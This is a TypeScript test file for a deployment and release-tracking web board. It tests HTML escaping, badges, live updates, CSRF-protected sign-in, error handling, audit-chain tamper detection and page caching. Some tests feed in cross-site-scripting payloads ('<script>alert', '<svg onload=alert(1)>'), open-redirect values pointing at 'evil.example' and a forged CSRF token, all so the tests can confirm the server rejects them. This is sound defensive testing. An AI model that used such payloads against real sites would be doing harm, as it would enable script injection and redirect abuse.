    expect(html).toContain('<dt>timings</dt><dd><table class="headers"><tbody><tr><th scope="row">load ms</th><td>1.2 s</td></tr><tr><th scope="row">dom content loaded ms</th><td>77 ms</td></tr></tbody></table></dd>');
    expect(html).not.toContain('the guard answered it itself');
    expect(html).not.toContain('<dt>console errors</dt>');
    expect(html).toContain('<pre>{\n  &quot;status&quot;: &quot;down&quot;,\n  &quot;db&quot;: {\n    &quot;ok&quot;: false\n  }\n}</pre>');
    expect(html).toContain('Response body · JSON · 38 bytes');
    expect(html).toMatch(/<table class="headers"><caption>Response headers<\/caption><tbody><tr><th scope="row">content-type<\/th><td>application\/json; charset=utf-8<\/td><\/tr><tr><th scope="row">retry-after<\/th><td>30<\/td>/);
    // DNS 3, connect 8, TLS 21, waiting 80 - 32 = 48, download 2: each a segment of the bar, said in words too.
    expect([...html.matchAll(/<rect class="timing-(\w+)"[^>]*><title>([^<]*)<\/title>/g)].map((m) => m[2])).toEqual(['DNS: 3 ms', 'connect: 8 ms', 'TLS: 21 ms', 'waiting for the first byte: 48 ms', 'download: 2 ms']);
    expect(html).toContain('<strong>total 82 ms</strong>');
    const health = html.slice(html.indexOf('<strong>health</strong>'), html.indexOf('<strong>home renders</strong>'));
    expect(health).toContain('Response headers');
    expect(health).not.toContain('<dt>redirects</dt>');
    expect(health).not.toMatch(/<dt>(request|response|timings)<\/dt>/);
    // The rollback panel says why there is no command, once; the other warning is listed.
    expect(html.split('the rollback command needs {merge_sha}')).toHaveLength(2);
    expect(html).toContain('<p>No command to copy: the rollback command needs {merge_sha}');
    expect(html).toContain('<li>a slow store</li>');
    // "Deployed": never deployed_at here, so the time it was recorded, said so, on the page and on the list.
    expect(html).toMatch(/<dt>Deployed<\/dt><dd>\d{4}-\d\d-\d\d \d\d:\d\d UTC \([^)]*\) <span class="muted">\(recorded\)<\/span><\/dd>/);
    const board = await (await request('/deployments?app=readable')).text();
    expect(board).toMatch(/<td data-label="Deployed"><span><time [^>]*>[^<]*<\/time> <span class="muted">\(recorded\)<\/span><\/span><\/td>/);
  });

  it('escapes everything production sent: titles, bodies, headers, console text, names, summaries', async () => {
    const run = runResult(
      'hostile',
      { verdict: 'red', summary: `'${HOSTILE}' failed`, base_url: `https://x/${HOSTILE}`, warnings: [HOSTILE], blocked_requests: [{ check: HOSTILE, method: 'POST', url: `https://x/?q=${HOSTILE}` }], rollback: `git revert ${HOSTILE}` },
      [{ name: HOSTILE, status: 'failed', error: HOSTILE, assertions: [{ label: HOSTILE, ok: false, expected: HOSTILE, actual: HOSTILE, message: HOSTILE }], evidence: { title: HOSTILE, console_errors: [HOSTILE], response: { headers: { 'x-evil': HOSTILE }, body_excerpt: `${HOSTILE}\n${'a'.repeat(200)}` }, [HOSTILE]: HOSTILE } }],
    );
    await postSeal('hostile', `v1${HOSTILE}`, { ...run, release: null });
    const release = await request(`/releases/hostile/${encodeURIComponent(`v1${HOSTILE}`)}`);
    expect(release.status).toBe(200);
    const html = await release.text();
    const board = await (await request('/deployments?app=hostile')).text();
    for (const page of [html, board]) {
      expect(page).not.toContain('<script>alert');
      expect(page).not.toContain('<img src=x');
      // The only scripts are the board's own file.
      expect([...page.matchAll(/<script/g)]).toHaveLength(1);
    }
    expect(html).toContain('&lt;script&gt;alert(&quot;pwned&quot;)&lt;/script&gt;');
    const badge = await (await request(`/apps/${encodeURIComponent('<svg onload=alert(1)>')}/badge.svg`)).text();
    expect(badge).not.toContain('<svg onload');
  });

  it('serves an SVG badge of the latest release: green, red, pending, and a 404 badge for an unknown app', async () => {
    const badge = async (app: string) => {
      const response = await request(`/apps/${app}/badge.svg`);
      return { status: response.status, type: response.headers.get('content-type'), label: /aria-label="([^"]+)"/.exec(await response.text())?.[1] };
    };
    await postRelease({ app: 'badged', version: 'v1' });
    expect(await badge('badged')).toEqual({ status: 200, type: 'image/svg+xml; charset=utf-8', label: 'smoke seal: pending' });
    await postSeal('badged', 'v1', runResult('badged'));
    expect((await badge('badged')).label).toBe('smoke seal: green');
    await postSeal('badged', 'v1', redRun('badged'));
    expect((await badge('badged')).label).toBe('smoke seal: red');
    expect(await badge('ghost')).toMatchObject({ status: 404, label: 'smoke seal: unknown app' });
    // Meant for other sites' READMEs: not blocked by the same-origin resource policy of the pages.
    expect((await request('/apps/badged/badge.svg')).headers.get('cross-origin-resource-policy')).toBe('cross-origin');
  });
});

describe('live updates: GET /events', () => {
  it('streams a seal to a board that is watching, as a server-sent event', async () => {
    const controller = new AbortController();
    const response = await request('/events', { signal: controller.signal });
    expect(response.headers.get('content-type')).toContain('text/event-stream');
    const reader = (response.body as ReadableStream<Uint8Array>).getReader();
    const decoder = new TextDecoder();
    let text = '';
    const readUntil = async (needle: string) => {
      for (let i = 0; i < 50 && !text.includes(needle); i++) text += decoder.decode((await reader.read()).value ?? new Uint8Array());
      return text;
    };
    expect(await readUntil('event: hello')).toContain('event: hello');
    await postSeal('live', 'v1', runResult('live'));
    expect(await readUntil('event: seal')).toContain('"app":"live"');
    controller.abort();
    await reader.cancel().catch(() => undefined);
  });

  it('boards that come and go leave nothing behind (no listener piles up on the shutdown signal)', async () => {
    const warnings: string[] = [];
    const onWarning = (warning: Error): void => void warnings.push(warning.name);
    process.on('warning', onWarning);
    try {
      for (let i = 0; i < 15; i++) {
        const controller = new AbortController();
        const response = await request('/events', { signal: controller.signal });
        const reader = (response.body as ReadableStream<Uint8Array>).getReader();
        await reader.read();
        controller.abort();
        await reader.cancel().catch(() => undefined);
      }
      await new Promise((resolve) => setTimeout(resolve, 50));
    } finally {
      process.off('warning', onWarning);
    }
    expect(warnings).not.toContain('MaxListenersExceededWarning');
  });
});

describe('asking the server to run a suite: POST /api/releases/<app>/<version>/smoke', () => {
  it('answers 501 naming the fix when the server has no config, and 401 without a token', async () => {
    const response = await request('/api/releases/studio/v1/smoke', { method: 'POST', headers: jsonWith(web.writeToken) });
    expect(response.status).toBe(501);
    expect(((await response.json()) as { error: string }).error).toContain('seal serve --config');
    expect((await request('/api/releases/studio/v1/smoke', { method: 'POST' })).status).toBe(401);
  });
});

describe('a board that is not public (a non-loopback server without --public)', () => {
  let closed: WebFixture;
  beforeAll(async () => {
    closed = await createWebFixture({ readAccess: 'token' });
    await closed.ledger.recordRelease({ app: 'secret-app', version: 'v1' });
  }, 60_000);
  afterAll(async () => {
    await closed?.close();
  });

  /** The sign-in form as a browser gets it: its CSRF value, in the form and in a cookie. */
  async function loginForm(): Promise<{ csrf: string; cookie: string }> {
    const form = await closed.app.request('/login?next=%2Fdeployments');
    expect(form.status).toBe(200);
    const csrf = /name="csrf" value="([^"]+)"/.exec(await form.text())?.[1] ?? '';
    const cookie = (form.headers.get('set-cookie') ?? '').split(';')[0] ?? '';
    expect(cookie).toBe(`seal_login_csrf=${csrf}`);
    expect(form.headers.get('set-cookie')).toMatch(/HttpOnly.*SameSite=Strict|SameSite=Strict.*HttpOnly/);
    return { csrf, cookie };
  }
  const signIn = async (fields: Record<string, string>, cookie: string) => closed.app.request('/login', { method: 'POST', headers: { cookie }, body: new URLSearchParams(fields) });

  it('sends a browser to the login form, and lets it in with a read token as an HttpOnly cookie', async () => {
    const page = await closed.app.request('/deployments?app=secret-app');
    expect(page.status).toBe(303);
    expect(page.headers.get('location')).toBe('/login?next=%2Fdeployments%3Fapp%3Dsecret-app');
    const { csrf, cookie: csrfCookie } = await loginForm();
    const wrong = await signIn({ token: 'seal_nope', next: '/deployments', csrf }, csrfCookie);
    expect(wrong.status).toBe(401);
    // A tab is dropped by browsers: "/\t/evil.example" would be "//evil.example".
    const sneaky = await signIn({ token: closed.readToken, next: '/\t/evil.example', csrf }, csrfCookie);
    expect(sneaky.headers.get('location')).toBe('/deployments');
    const login = await signIn({ token: closed.readToken, next: '//evil.example.com/', csrf }, csrfCookie);
    expect(login.status).toBe(303);
    expect(login.headers.get('location')).toBe('/deployments');
    const cookie = (login.headers.getSetCookie?.() ?? [login.headers.get('set-cookie') ?? '']).find((c) => c.startsWith('seal_token=')) ?? '';
    expect(cookie).toMatch(/HttpOnly/);
    expect(cookie).toMatch(/SameSite=Strict/);
    // The cookie holds a session id, never the token (nor its secret).
    expect(cookie).toMatch(/^seal_token=seal_s_[A-Za-z0-9_-]{43};/);
    expect(cookie).not.toContain(closed.readToken);
    expect(cookie).not.toContain(closed.readToken.slice(-43));
    // A token pasted into the cookie by hand is not a session.
    expect((await closed.app.request('/deployments', { headers: { cookie: `seal_token=${closed.readToken}` } })).status).toBe(303);
    const board = await closed.app.request('/deployments?app=secret-app', { headers: { cookie: cookie.split(';')[0] as string } });
    expect(board.status).toBe(200);
    expect(await board.text()).toContain('secret-app');
    // Behind a proxy that adds its own Basic auth, the cookie still signs the browser in.
    const proxied = await closed.app.request('/deployments', { headers: { cookie: cookie.split(';')[0] as string, authorization: 'Basic dXNlcjpwYXNz' } });
    expect(proxied.status).toBe(200);
  });

  it('refuses a sign-in posted without the form\'s CSRF value (login CSRF from another site), or with another one', async () => {
    const { csrf, cookie } = await loginForm();
    // Another site's form: no cookie (SameSite=Strict keeps it home), or a value of its own.
    for (const [fields, jar] of [[{ token: closed.readToken, next: '/deployments' }, ''], [{ token: closed.readToken, next: '/deployments', csrf }, ''], [{ token: closed.readToken, next: '/deployments', csrf: 'forged' }, cookie]] as const) {
      const answer = await signIn(fields, jar);
      expect(answer.status).toBe(403);
      expect(await answer.text()).toContain('This sign-in form expired or did not come from this board');
      expect(answer.headers.getSetCookie?.().some((c) => c.startsWith('seal_token=')) ?? false).toBe(false);
    }
  });

  it('a session ends when its token is revoked', async () => {
    const extra = await closed.tokens.create('wallboard-2', 'read');
    const { csrf, cookie: csrfCookie } = await loginForm();
    const login = await signIn({ token: extra.token, next: '/deployments', csrf }, csrfCookie);
    const session = (login.headers.getSetCookie?.() ?? []).find((c) => c.startsWith('seal_token='))?.split(';')[0] ?? '';
    expect((await closed.app.request('/deployments', { headers: { cookie: session } })).status).toBe(200);
    expect(await closed.tokens.revoke(extra.info.id)).toBe(1);
    const after = await closed.app.request('/deployments', { headers: { cookie: session } });
    expect(after.status).toBe(303);
    expect(after.headers.get('location')).toBe('/login?next=%2Fdeployments');
  });

  it('a write token cannot sign in to the board: it is for CI', async () => {
    const { csrf, cookie } = await loginForm();
    const answer = await signIn({ token: closed.writeToken, next: '/deployments', csrf }, cookie);
    expect(answer.status).toBe(403);
    expect(await answer.text()).toMatch(/is a write token, for CI: sign in with a read token/);
    expect(answer.headers.getSetCookie?.().some((c) => c.startsWith('seal_token=')) ?? false).toBe(false);
  });

  it('refuses the API, badges and live updates without a token, but not /healthz or the API description', async () => {
    expect((await closed.app.request('/api/releases?app=secret-app')).status).toBe(401);
    expect((await closed.app.request('/api/releases?app=secret-app', { headers: { authorization: `Bearer ${closed.readToken}` } })).status).toBe(200);
    expect((await closed.app.request('/apps/secret-app/badge.svg')).status).toBe(303);
    expect((await closed.app.request('/events')).status).toBe(303);
    expect((await closed.app.request('/healthz')).status).toBe(200);
    expect((await closed.app.request('/api/openapi.json')).status).toBe(200);
  });
});

describe('when something breaks', () => {
  it('answers a store that is gone with a 500 naming a reference, never a stack trace, and logs the details', async () => {
    const broken = await createWebFixture();
    await broken.store.close();
    const api = await broken.app.request('/api/releases?app=x');
    expect(api.status).toBe(500);
    const text = await api.text();
    expect(text).toMatch(/^\{"error":"internal error \(reference [0-9a-f]{12}\); the server log has the details"\}$/);
    const page = await broken.app.request('/deployments', { headers: { accept: 'text/html' } });
    expect(page.status).toBe(500);
    expect(await page.text()).not.toMatch(/\s+at\s+\S+\s+\(/);
    expect((await broken.app.request('/healthz')).status).toBe(503);
    expect(broken.logs.join('')).toContain('"msg":"request failed"');
    broken.events.close();
  });

  it('never logs a token, a cookie or a query string', () => {
    const logs = web.logs.join('');
    expect(logs).not.toContain(web.writeToken);
    expect(logs).not.toContain(web.readToken);
    expect(logs).not.toContain('limit=');
  });
});

describe('a seal reported to the server proves post-mortem actions', () => {
  it('marks done the action whose smoke check passed in the green seal CI reported, and the board shows the proof', async () => {
    expect((await postRelease({ app: 'proving', version: 'v2' })).status).toBe(201);
    const incident = await web.incidents.create({
      app: 'proving', release: 'v2', title: 'Checkout broke', severity: 2, status: 'draft', summary: '', timeline: [], impact: null, whys: [], root_cause: null,
      contributing_factors: [], lessons: { went_well: [], went_wrong: [], lucky: [] }, people: [], supporting: [],
      actions: [{ id: 1, title: 'Add a smoke check that pays with a test card', type: 'detect', owner: 'Priya Patel', due: '2099-01-01', status: 'open', check: 'pay', created_at: new Date(Date.now() - 60_000).toISOString() }],
    });
    // A red seal in which the check passed proves nothing.
    expect((await postSeal('proving', 'v2', runResult('proving', { verdict: 'red' }, [{ name: 'pay', status: 'passed' }, { name: 'home', status: 'failed' }]))).status).toBe(201);
    expect((await web.incidents.get(incident.id))?.actions[0]?.status).toBe('open');
    const green = runResult('proving', { verdict: 'green' }, [{ name: 'pay', status: 'passed' }]);
    expect((await postSeal('proving', 'v2', green)).status).toBe(201);
    expect((await web.incidents.get(incident.id))?.actions[0]).toMatchObject({ status: 'done', credited: { run_id: green.run_id, version: 'v2' } });
    const html = await (await request(`/incidents/${incident.id}`)).text();
    expect(html).toContain(`?run=${green.run_id}`);
  });
});

describe('the audit log on the board and the API', () => {
  let audited: WebFixture;
  let watch: AuditWatch | null = null;
  beforeAll(async () => {
    // The watch reads the fixture's own store, made with the app: bound once both exist.
    const late: AuditWatch = { latest: () => watch?.latest() ?? null, failure: () => watch?.failure() ?? null, verify: () => watch?.verify() ?? Promise.resolve(null), close: () => watch?.close() ?? Promise.resolve() };
    audited = await createWebFixture({ deps: { audit: late } });
    watch = watchAudit(new AuditLog(audited.store.db), { logger: pino({ level: 'silent' }) });
  }, 60_000);
  afterAll(async () => {
    await watch?.close();
    await audited?.close();
  });
  const get = (path: string) => audited.app.request(path);

  it('shows each release\'s trail (who, what, when, hash), escaped, and the chain\'s newest verification', async () => {
    const run = redRun('aud', { summary: `red ${HOSTILE}` });
    const sealed = await audited.app.request('/api/releases/aud/v1/seals', { method: 'POST', headers: jsonWith(audited.writeToken), body: JSON.stringify(run) });
    expect(sealed.status).toBe(201);
    expect((await watch?.verify())?.ok).toBe(true);
    const page = await (await get('/releases/aud/v1')).text();
    const trail = page.slice(page.indexOf('<h2>Audit trail</h2>'));
    expect(trail).toMatch(/Audit chain verified at \d{4}-\d\d-\d\d \d\d:\d\d UTC: \d+ events, head <code>[0-9a-f]{12}<\/code>/);
    // Recorded and sealed in one transaction: one event for the release.
    expect(trail).toMatch(/<td>token ci \(\w+\)<\/td><td>release recorded<\/td><td>recorded; sealed red by run [0-9a-f-]{36}, notes: the seal block<\/td>/);
    expect(trail).toMatch(/<td>token ci \(\w+\)<\/td><td>seal recorded<\/td><td>red: red &lt;script&gt;alert\(&quot;pwned&quot;\)&lt;\/script&gt;/);
    expect(page).not.toContain(HOSTILE);
    const api = (await (await get('/api/releases/aud/v1')).json()) as { audit_trail: { kind: string; action: string; actor: string; hash: string }[] };
    expect(api.audit_trail.map((e) => `${e.kind} ${e.action}`)).toEqual(['release recorded', 'seal recorded', 'credit recorded']);
    expect(await (await get('/deployments')).text()).toContain('Audit chain verified at');
  });

  it('names the first changed row on the board and in /api/audit once the server verifies again', async () => {
    await audited.store.db.execute(sql`UPDATE seal_runs SET verdict = 'green', summary = 'all fine' WHERE app_id = (SELECT id FROM apps WHERE name = 'aud')`);
    expect((await watch?.verify())?.ok).toBe(false);
    const board = await (await get('/deployments')).text();
    expect(board).toMatch(/Audit chain does not verify \(\d{4}-\d\d-\d\d \d\d:\d\d UTC, 1 problem\): seal [0-9a-f-]{36} of aud v1 was changed outside smoke-seal since event #\d+/);
    const api = (await (await get('/api/audit')).json()) as { report: { ok: boolean; problems: { type: string; message: string }[] } };
    expect(api.report.ok).toBe(false);
    expect(api.report.problems[0]).toMatchObject({ type: 'row', message: expect.stringContaining('of aud v1 was changed outside smoke-seal') as unknown });
  });
});

describe('the page cache (a busy board renders each page once a second)', () => {
  let cached: WebFixture;
  beforeAll(async () => {
    // A long time, so the test sees what is kept: the server's default is PAGE_CACHE_MS (1 s).
    cached = await createWebFixture({ deps: { pageCacheMs: 60_000 } });
  }, 60_000);
  afterAll(async () => {
    await cached?.close();
  });
  const board = async (path = '/deployments') => (await cached.app.request(path)).text();

  it('serves a page again; a seal or release this server records shows at once; an unknown app is not kept', async () => {
    expect(await board('/deployments?app=later')).toContain('No app &quot;later&quot; in the ledger.');
    const first = await board();
    // Written into the database by something that is not smoke-seal (no audit event, no notice): the kept page is served.
    await cached.store.db.execute(sql`INSERT INTO apps (name) VALUES ('raw')`);
    await cached.store.db.execute(sql`INSERT INTO releases (app_id, version) SELECT id, 'v1' FROM apps WHERE name = 'raw'`);
    expect(await board()).toBe(first);
    // Recorded through smoke-seal behind this server's back (the CLI on the shared store, another
    // server): it moves the audit log's head, and the kept page is stale at once.
    await cached.ledger.recordRelease({ app: 'elsewhere', version: 'v1' });
    expect(await board()).toContain('data-app="elsewhere" data-version="v1"');
    // Recorded through this server: the cached pages are dropped.
    const posted = await cached.app.request('/api/releases', { method: 'POST', headers: jsonWith(cached.writeToken), body: JSON.stringify({ app: 'later', version: 'v1' }) });
    expect(posted.status).toBe(201);
    const after = await board();
    expect(after).toContain('data-app="later" data-version="v1"');
    expect(after).toContain('data-app="elsewhere" data-version="v1"');
    expect(await board('/deployments?app=later')).toContain('data-app="later" data-version="v1"');
    const sealed = await cached.app.request('/api/releases/later/v1/seals', { method: 'POST', headers: jsonWith(cached.writeToken), body: JSON.stringify(redRun('later')) });
    expect(sealed.status).toBe(201);
    expect(await board('/releases/later/v1')).toContain('verdict-red');
  });

  it('a change seen by polling the store (the CLI, another server) makes kept pages stale at once, so a live board refetching on it gets the new page', async () => {
    const before = await board();
    expect(before).not.toContain('data-app="from-cli"');
    const changed = new Promise<void>((resolve) => {
      const stop = cached.events.subscribe((event) => {
        if (event.type === 'change') {
          stop();
          resolve();
        }
      });
    });
    // Written behind the server's back, as `seal smoke` on the shared store does. The poll takes
    // its first mark when the subscription starts: a write that lands before that mark is not a
    // change, so write again (a bounded number of times) until the poll announces one.
    let announced = false;
    void changed.then(() => (announced = true));
    for (let i = 1; i <= 20 && !announced; i++) {
      await cached.ledger.recordRelease({ app: 'from-cli', version: `v${i}` });
      await Promise.race([changed, new Promise((resolve) => setTimeout(resolve, 250))]);
    }
    expect(announced).toBe(true);
    expect(await board()).toMatch(/data-app="from-cli" data-version="v\d+"/);
  });
});
